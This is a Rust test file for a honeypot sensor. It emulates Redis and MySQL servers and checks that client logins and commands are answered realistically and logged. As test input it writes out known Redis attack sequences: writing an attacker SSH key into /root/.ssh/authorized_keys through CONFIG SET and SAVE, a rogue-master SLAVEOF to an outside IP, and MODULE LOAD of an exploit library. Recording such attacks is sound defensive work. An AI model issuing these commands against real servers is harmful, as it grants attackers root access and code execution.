//! The redis and mysql emulators against real clients (`redis-cli` from redis-tools, the
//! MariaDB `mysql` client) and raw sockets, on loopback.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::process::Output;

use chaff_sensor::emulators::Emulator;
use chaff_sensor::recorder::MemoryLog;
use chaff_sensor::{Env, Port, Transport};
use serde_json::Value;

mod support;
use support::{
    connect, events_of, kinds, read_to_close, run, serve, stderr, stdout, wait_for, wait_for_kind,
};

// ---- redis ----

fn redis(env: &[(&str, &str)]) -> (SocketAddr, MemoryLog) {
    serve("redis", 6379, env)
}

fn redis_cli(addr: SocketAddr, args: &[&str]) -> Output {
    let port = addr.port().to_string();
    let mut all = vec!["-h", "127.0.0.1", "-p", &port];
    all.extend_from_slice(args);
    run("redis-cli", &all)
}

/// Sends `request` and reads until the reply is `expected_len` bytes long.
fn exchange(stream: &mut TcpStream, request: &[u8], expected_len: usize) -> Vec<u8> {
    stream.write_all(request).unwrap();
    let mut reply = vec![0u8; expected_len];
    stream.read_exact(&mut reply).unwrap();
    reply
}

#[test]
fn redis_cli_auth_is_recorded_with_the_exact_password() {
    let (addr, log) = redis(&[("NODE_NAME", "cache-01"), ("REDIS_VERSION", "7.0.15")]);
    let output = redis_cli(addr, &["--no-auth-warning", "-a", "S3cr3t!pa$$ w0rd", "PING"]);
    assert!(
        stderr(&output).contains(
            "AUTH failed: ERR AUTH <password> called without any password configured for the default user"
        ),
        "{output:?}"
    );
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(auth["password"], "S3cr3t!pa$$ w0rd");
    assert_eq!(auth["success"], false);
    assert!(auth.get("username").is_none());
    assert_eq!(auth["decky"], "cache-01");
    let commands = events_of(&log, "command");
    assert_eq!(commands[0]["command"], "AUTH \"S3cr3t!pa$$ w0rd\"");
    assert_eq!(commands[0]["name"], "auth");
}

#[test]
fn redis_cli_acl_login_records_the_username() {
    let (addr, log) = redis(&[("REDIS_VERSION", "7.2.4")]);
    let output = redis_cli(addr, &["--no-auth-warning", "--user", "backup", "--pass", "Winter2024", "PING"]);
    assert!(
        stderr(&output).contains("WRONGPASS invalid username-password pair or user is disabled."),
        "{output:?}"
    );
    let auth = wait_for_kind(&log, "auth");
    assert_eq!((auth["username"].as_str(), auth["password"].as_str()), (Some("backup"), Some("Winter2024")));
    assert_eq!(auth["success"], false);

    // The default user has no password: any password lets it in.
    let output = redis_cli(addr, &["--no-auth-warning", "--user", "default", "--pass", "x", "PING"]);
    assert_eq!(stdout(&output), "PONG\n", "{output:?}");
    wait_for(&log, "second auth", |e| e.iter().any(|e| e["kind"] == "auth" && e["success"] == true));
}

#[test]
fn redis_cli_info_shows_the_configured_version_and_os() {
    let os = "Linux 4.19.0-26-amd64 x86_64";
    let (addr, log) = redis(&[("NODE_NAME", "cache-01"), ("REDIS_VERSION", "6.2.14"), ("REDIS_OS", os)]);
    let output = redis_cli(addr, &["INFO", "server"]);
    let info = stdout(&output);
    assert!(info.starts_with("# Server\r\nredis_version:6.2.14\r\n"), "{output:?}");
    assert!(info.contains(&format!("\r\nos:{os}\r\n")), "{info}");
    assert!(info.contains(&format!("\r\ntcp_port:{}\r\n", addr.port())), "{info}");
    assert!(!info.contains("# Clients"));
    let command = wait_for_kind(&log, "command");
    assert_eq!((command["command"].as_str(), command["argc"].as_u64()), (Some("INFO server"), Some(2)));

    let everything = stdout(&redis_cli(addr, &["INFO"]));
    for section in ["# Clients", "# Memory", "# Persistence", "# Stats", "# Replication", "# Keyspace"] {
        assert!(everything.contains(section), "{section}: {everything}");
    }
    assert!(everything.contains("\r\ndb0:keys="), "{everything}");
}

/// `REDIS_DISTRO` picks the distro's version and OS; `NODE_NAME` makes each decky differ
/// and stay the same.
#[test]
fn redis_defaults_follow_the_distro_and_the_decky() {
    let info = |env: &[(&str, &str)]| {
        let (addr, _log) = redis(env);
        stdout(&redis_cli(addr, &["INFO", "server"]))
    };
    let field = |info: &str, name: &str| {
        info.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .unwrap_or_else(|| panic!("{name}: {info}"))
            .to_owned()
    };
    let ubuntu = info(&[("NODE_NAME", "cache-01"), ("REDIS_DISTRO", "ubuntu22")]);
    assert_eq!(field(&ubuntu, "redis_version"), "6.0.16");
    assert_eq!(field(&ubuntu, "os"), "Linux 5.15.0-91-generic x86_64");
    let debian = info(&[("NODE_NAME", "cache-01"), ("REDIS_DISTRO", "debian")]);
    assert!(["7.0.15", "7.0.11"].contains(&field(&debian, "redis_version").as_str()), "{debian}");
    assert_eq!(field(&debian, "os"), "Linux 6.1.0-18-amd64 x86_64");

    let again = info(&[("NODE_NAME", "cache-01"), ("REDIS_DISTRO", "debian")]);
    let other = info(&[("NODE_NAME", "cache-02"), ("REDIS_DISTRO", "debian")]);
    assert_eq!(field(&debian, "process_id"), field(&again, "process_id"));
    assert_ne!(
        (field(&debian, "process_id"), field(&debian, "uptime_in_days")),
        (field(&other, "process_id"), field(&other, "uptime_in_days"))
    );
}

/// The cron / authorized_keys write: every step answered as a vulnerable server would, and
/// the final SAVE recorded with where it would have written.
#[test]
fn redis_cli_config_set_dir_and_save_are_recorded() {
    let (addr, log) = redis(&[("REDIS_VERSION", "7.0.15")]);
    let key = "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker@kali\n\n";
    assert_eq!(stdout(&redis_cli(addr, &["CONFIG", "SET", "dir", "/root/.ssh"])), "OK\n");
    assert_eq!(stdout(&redis_cli(addr, &["CONFIG", "SET", "dbfilename", "authorized_keys"])), "OK\n");
    assert_eq!(stdout(&redis_cli(addr, &["SET", "x", key])), "OK\n");
    assert_eq!(stdout(&redis_cli(addr, &["CONFIG", "GET", "dir"])), "dir\n/root/.ssh\n");
    assert_eq!(stdout(&redis_cli(addr, &["SAVE"])), "OK\n");

    let events = wait_for(&log, "SAVE", |e| e.iter().any(|e| e["name"] == "save"));
    let commands: Vec<&Value> = events.iter().filter(|e| e["kind"] == "command").collect();
    assert_eq!(commands[0]["command"], "CONFIG SET dir /root/.ssh");
    assert_eq!(commands[1]["command"], "CONFIG SET dbfilename authorized_keys");
    assert_eq!(
        commands[2]["command"],
        "SET x \"\\n\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker@kali\\n\\n\""
    );
    let save = commands.iter().find(|e| e["name"] == "save").unwrap();
    assert_eq!(
        (save["dir"].as_str(), save["dbfilename"].as_str()),
        (Some("/root/.ssh"), Some("authorized_keys"))
    );
}

#[test]
fn redis_cli_replication_and_module_exploits_are_answered() {
    let (addr, log) = redis(&[("REDIS_VERSION", "7.0.15")]);
    assert_eq!(stdout(&redis_cli(addr, &["SLAVEOF", "203.0.113.7", "21000"])), "OK\n");
    let replication = stdout(&redis_cli(addr, &["INFO", "replication"]));
    assert!(
        replication.contains("role:slave\r\nmaster_host:203.0.113.7\r\nmaster_port:21000\r\n"),
        "{replication}"
    );
    let module = redis_cli(addr, &["MODULE", "LOAD", "/tmp/exp.so"]);
    // redis-cli ends an error with an empty line when not on a terminal.
    assert_eq!(stdout(&module), "ERR Error loading the extension. Please check the server logs.\n\n");
    let unknown = redis_cli(addr, &["FLUSHEVERYTHING", "now"]);
    assert_eq!(
        stdout(&unknown),
        "ERR unknown command 'FLUSHEVERYTHING', with args beginning with: 'now' \n\n"
    );
    let events = wait_for(&log, "4 commands", |e| e.iter().filter(|e| e["kind"] == "command").count() >= 4);
    let lines: Vec<&str> =
        events.iter().filter(|e| e["kind"] == "command").filter_map(|e| e["command"].as_str()).collect();
    assert_eq!(
        lines,
        ["SLAVEOF 203.0.113.7 21000", "INFO replication", "MODULE LOAD /tmp/exp.so", "FLUSHEVERYTHING now"]
    );
}

#[test]
fn redis_cli_speaks_resp3() {
    let (addr, log) = redis(&[("REDIS_VERSION", "7.2.4")]);
    let output = redis_cli(addr, &["-3", "CONFIG", "GET", "maxmemory*"]);
    // A RESP3 map: redis-cli prints each pair on one line (a RESP2 array would be one item
    // per line).
    assert_eq!(
        stdout(&output),
        "maxmemory 0\nmaxmemory-policy noeviction\nmaxmemory-samples 5\n",
        "{output:?}"
    );
    let names: Vec<String> =
        events_of(&log, "command").iter().map(|e| e["name"].as_str().unwrap().to_owned()).collect();
    assert_eq!(names[0], "hello");
}

#[test]
fn redis_inline_and_pipelined_requests() {
    let (addr, log) = redis(&[("REDIS_VERSION", "7.0.15")]);
    let mut stream = connect(addr);
    assert_eq!(exchange(&mut stream, b"PING\r\n", 7), b"+PONG\r\n");
    let pipelined = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$2\r\nv1\r\n*2\r\n$3\r\nGET\r\n$1\r\nk\r\necho \"a b\"\n";
    assert_eq!(exchange(&mut stream, pipelined, 5 + 8 + 9), b"+OK\r\n$2\r\nv1\r\n$3\r\na b\r\n");
    // What nmap's GetRequest probe looks like to redis.
    let reply = b"-ERR wrong number of arguments for 'get' command\r\n";
    assert_eq!(exchange(&mut stream, b"GET / HTTP/1.0\r\n\r\n", reply.len()), reply);
    stream.write_all(b"QUIT\r\n").unwrap();
    assert_eq!(read_to_close(&mut stream), b"+OK\r\n");
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let lines: Vec<&str> = events.iter().filter_map(|e| e["command"].as_str()).collect();
    assert_eq!(lines, ["PING", "SET k v1", "GET k", "echo \"a b\"", "GET / HTTP/1.0", "QUIT"]);
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

#[test]
fn redis_bad_framing_is_a_protocol_error_and_closes() {
    let (addr, log) = redis(&[]);
    let mut stream = connect(addr);
    stream.write_all(b"*2\r\n$4\r\nECHO\r\n:5\r\nPING\r\n").unwrap();
    assert_eq!(read_to_close(&mut stream), b"-ERR Protocol error: expected '$', got ':'\r\n");
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(kinds(&events), ["listening", "connect", "protocol_error", "disconnect"]);
    assert_eq!(events[2]["error"], "Protocol error: expected '$', got ':'");
    assert_eq!(events[3]["reason"], "closed");

    let mut stream = connect(addr);
    stream.write_all(b"SET k \"unterminated\r\n").unwrap();
    assert_eq!(read_to_close(&mut stream), b"-ERR Protocol error: unbalanced quotes in request\r\n");
}

#[test]
fn redis_huge_bulk_length_is_refused_without_reading_it() {
    let (addr, log) = redis(&[]);
    // Beyond redis's own 512 MiB limit: the error redis gives.
    let mut stream = connect(addr);
    stream.write_all(b"*1\r\n$2147483648\r\n").unwrap();
    assert_eq!(read_to_close(&mut stream), b"-ERR Protocol error: invalid bulk length\r\n");
    // Within it but beyond what the sensor holds: closed at once, as redis closes a client
    // past its query buffer limit; nothing was waited for or allocated.
    let mut stream = connect(addr);
    stream.write_all(b"*2\r\n$3\r\nSET\r\n$500000000\r\nxxxx").unwrap();
    assert_eq!(read_to_close(&mut stream), b"");
    let events =
        wait_for(&log, "two disconnects", |e| kinds(e).iter().filter(|k| **k == "disconnect").count() == 2);
    let errors: Vec<&str> = events.iter().filter_map(|e| e["error"].as_str()).collect();
    assert_eq!(errors, ["Protocol error: invalid bulk length", "query buffer limit reached"]);
    assert!(events_of(&log, "command").is_empty());
}

#[test]
fn redis_http_requests_are_dropped_like_redis_does() {
    let (addr, log) = redis(&[]);
    let mut stream = connect(addr);
    stream.write_all(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    assert_eq!(read_to_close(&mut stream), b"");
    let event = wait_for_kind(&log, "command");
    assert_eq!(event["command"], "POST / HTTP/1.1");
}

#[test]
fn redis_bad_configuration_names_the_variable() {
    let port = Port { number: 6379, transport: Transport::Tcp };
    let Err(error) = Emulator::for_port("redis", port, &Env::from_pairs([("REDIS_VERSION", "seven")])) else {
        panic!("accepted")
    };
    assert_eq!(error.var, "REDIS_VERSION");
    let Err(error) = Emulator::for_port("redis", port, &Env::from_pairs([("REDIS_OS", "a\nb")])) else {
        panic!("accepted")
    };
    assert_eq!(error.var, "REDIS_OS");
}

// ---- mysql ----

fn mysql(env: &[(&str, &str)]) -> (SocketAddr, MemoryLog) {
    serve("mysql", 3306, env)
}

fn mysql_client(addr: SocketAddr, args: &[&str]) -> Output {
    let port = addr.port().to_string();
    let mut all = vec!["-h", "127.0.0.1", "-P", &port, "--protocol=TCP", "--connect-timeout=10"];
    all.extend_from_slice(args);
    run("mysql", &all)
}

/// SHA1(password) XOR SHA1(scramble + SHA1(SHA1(password))), the mysql_native_password
/// response, computed by Python's hashlib.
fn native_password_response(password: &str, scramble_hex: &str) -> String {
    let script = "import hashlib,sys\n\
        p=sys.argv[1].encode(); s=bytes.fromhex(sys.argv[2])\n\
        h1=hashlib.sha1(p).digest(); h2=hashlib.sha1(h1).digest()\n\
        print(bytes(a^b for a,b in zip(h1, hashlib.sha1(s+h2).digest())).hex())";
    let output = run("python3", &["-c", script, password, scramble_hex]);
    assert!(output.status.success(), "{output:?}");
    stdout(&output).trim().to_owned()
}

/// The auth response in hex, whether the event holds it as text or escaped plus hex.
fn response_hex(auth: &Value) -> String {
    match auth.get("auth_response_hex") {
        Some(hex) => hex.as_str().unwrap().to_owned(),
        None => auth["auth_response"].as_str().unwrap().bytes().map(|b| format!("{b:02x}")).collect(),
    }
}

fn check_refused_login(version: &str, expected_plugin_first: &str) {
    let (addr, log) = mysql(&[("NODE_NAME", "db-01"), ("MYSQL_VERSION", version)]);
    let output = mysql_client(addr, &["-u", "alice", "-psecret", "-D", "payroll", "-e", "select 1"]);
    assert!(!output.status.success(), "{output:?}");
    assert_eq!(
        stderr(&output),
        "ERROR 1045 (28000): Access denied for user 'alice'@'127.0.0.1' (using password: YES)\n",
        "{version}"
    );
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(auth["username"], "alice");
    assert_eq!(auth["database"], "payroll");
    assert_eq!(auth["auth_plugin"], "mysql_native_password");
    assert_eq!(auth["client_auth_plugin"], expected_plugin_first);
    assert_eq!((auth["using_password"].as_bool(), auth["success"].as_bool()), (Some(true), Some(false)));
    assert_eq!(auth["client_attributes"]["_client_name"], "libmariadb");
    assert_eq!(auth["client_attributes"]["program_name"], "mysql");
    // The recorded response is exactly what the password gives with the recorded scramble:
    // an offline guess can be checked against it.
    let scramble = auth["scramble_hex"].as_str().unwrap();
    assert_eq!(scramble.len(), 40);
    assert_eq!(response_hex(&auth), native_password_response("secret", scramble));
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

#[test]
fn mysql_client_login_to_mariadb_is_refused_and_recorded() {
    check_refused_login("10.11.6-MariaDB-0+deb12u1", "mysql_native_password");
}

/// MySQL 8 announces caching_sha2_password; the client's answer to it is switched to
/// mysql_native_password.
#[test]
fn mysql_client_login_to_mysql8_is_switched_to_native_and_refused() {
    check_refused_login("8.0.36-0ubuntu0.22.04.1", "caching_sha2_password");
}

#[test]
fn mysql_client_without_password() {
    let (addr, log) = mysql(&[("MYSQL_VERSION", "5.7.42-0ubuntu0.18.04.1")]);
    let output = mysql_client(addr, &["-u", "root", "-e", "select 1"]);
    assert_eq!(
        stderr(&output),
        "ERROR 1045 (28000): Access denied for user 'root'@'127.0.0.1' (using password: NO)\n"
    );
    let auth = wait_for_kind(&log, "auth");
    assert_eq!((auth["username"].as_str(), auth["auth_response"].as_str()), (Some("root"), Some("")));
    assert_eq!(auth["using_password"], false);
}

/// Reads the greeting with a raw socket: (protocol version, server version, the rest).
fn greeting(addr: SocketAddr) -> (u8, String, Vec<u8>) {
    let mut stream = connect(addr);
    let mut header = [0u8; 4];
    stream.read_exact(&mut header).unwrap();
    assert_eq!(header[3], 0, "sequence id");
    let mut payload = vec![0u8; usize::from(header[0]) | usize::from(header[1]) << 8];
    stream.read_exact(&mut payload).unwrap();
    let end = payload.iter().position(|&b| b == 0).unwrap();
    (payload[0], String::from_utf8(payload[1..end].to_vec()).unwrap(), payload[end + 1..].to_vec())
}

#[test]
fn mysql_version_shows_in_the_greeting() {
    let (addr, _log) = mysql(&[("MYSQL_VERSION", "5.7.42-0ubuntu0.18.04.1")]);
    let (protocol, version, rest) = greeting(addr);
    assert_eq!((protocol, version.as_str()), (10, "5.7.42-0ubuntu0.18.04.1"));
    assert!(rest.ends_with(b"mysql_native_password\0"));

    let (addr, _log) = mysql(&[("MYSQL_VERSION", "10.6.16-MariaDB-0ubuntu0.22.04.1")]);
    assert_eq!(greeting(addr).1, "5.5.5-10.6.16-MariaDB-0ubuntu0.22.04.1");

    let (addr, _log) = mysql(&[("NODE_NAME", "db-01"), ("MYSQL_DISTRO", "ubuntu22")]);
    let (_, version, rest) = greeting(addr);
    assert!(version.starts_with("8.0.3") && version.contains("-0ubuntu0.22.04."), "{version}");
    assert!(rest.ends_with(b"caching_sha2_password\0"));
    // Each connection gets a new id and a new scramble; the version stays.
    let (_, again, rest_again) = greeting(addr);
    assert_eq!(again, version);
    assert_ne!(rest[..12], rest_again[..12]);

    let (addr, _log) = mysql(&[("NODE_NAME", "db-01"), ("MYSQL_DISTRO", "debian")]);
    assert!(greeting(addr).1.starts_with("5.5.5-10.11."));
}

#[test]
fn mysql_garbage_is_a_bad_handshake() {
    let (addr, log) = mysql(&[("MYSQL_VERSION", "8.0.36")]);
    let mut stream = connect(addr);
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
    let received = read_to_close(&mut stream);
    let greeting_len = 4 + usize::from(received[0]);
    assert_eq!(&received[greeting_len..], b"\x16\0\0\x21\xff\x13\x04#08S01Bad handshake");
    let event = wait_for_kind(&log, "protocol_error");
    assert_eq!(event["error"], "packet out of order");
    assert!(events_of(&log, "auth").is_empty());
}

#[test]
fn mysql_ssl_request_is_refused() {
    let (addr, log) = mysql(&[]);
    let mut stream = connect(addr);
    let mut header = [0u8; 4];
    stream.read_exact(&mut header).unwrap();
    let mut greeting = vec![0u8; usize::from(header[0])];
    stream.read_exact(&mut greeting).unwrap();
    // CLIENT_PROTOCOL_41 | CLIENT_SSL | CLIENT_SECURE_CONNECTION, then max packet, charset, filler.
    let mut ssl_request = vec![32, 0, 0, 1];
    ssl_request.extend_from_slice(&(0x0000_8a00u32).to_le_bytes());
    ssl_request.extend_from_slice(&[0; 28]);
    stream.write_all(&ssl_request).unwrap();
    assert_eq!(read_to_close(&mut stream), b"\x16\0\0\x02\xff\x13\x04#08S01Bad handshake");
    assert_eq!(wait_for_kind(&log, "protocol_error")["error"], "SSL requested, but not offered");
}

#[test]
fn mysql_client_leaving_after_the_greeting_is_an_eof() {
    let (addr, log) = mysql(&[]);
    let stream = connect(addr);
    stream.shutdown(Shutdown::Write).unwrap();
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(kinds(&events), ["listening", "connect", "disconnect"]);
    assert_eq!(events[2]["reason"], "eof");
}

#[test]
fn mysql_bad_version_names_the_variable() {
    let port = Port { number: 3306, transport: Transport::Tcp };
    let Err(error) = Emulator::for_port("mysql", port, &Env::from_pairs([("MYSQL_VERSION", "eight")])) else {
        panic!("accepted")
    };
    assert_eq!(error.var, "MYSQL_VERSION");
}

/// For identifying the services by hand: serves redis on 127.0.0.1:6379 and mysql on
/// 127.0.0.1:3306 for two minutes, events on stdout (`--nocapture`), while one runs
/// `nmap -sV -Pn -p 6379,3306 127.0.0.1`. Configure with the usual variables.
#[test]
#[ignore = "binds fixed ports and waits; run by hand"]
fn serve_on_the_real_ports_for_nmap() {
    support::serve_on_real_ports(&[("redis", 6379), ("mysql", 3306)], 120);
}
